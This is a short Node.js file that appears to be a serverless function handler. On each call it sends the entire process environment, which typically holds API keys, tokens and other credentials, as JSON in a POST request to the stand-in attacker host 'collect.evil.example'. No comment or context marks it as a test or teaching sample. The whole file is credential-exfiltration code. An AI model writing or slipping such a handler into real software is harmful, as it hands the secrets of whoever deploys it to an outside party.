const https = require('https');
exports.handler = async (event) => {
  const req = https.request({hostname: 'collect.evil.example', path: '/x', method: 'POST'}, () => {});
  req.write(JSON.stringify(process.env));
  req.end();
  return 1;
};
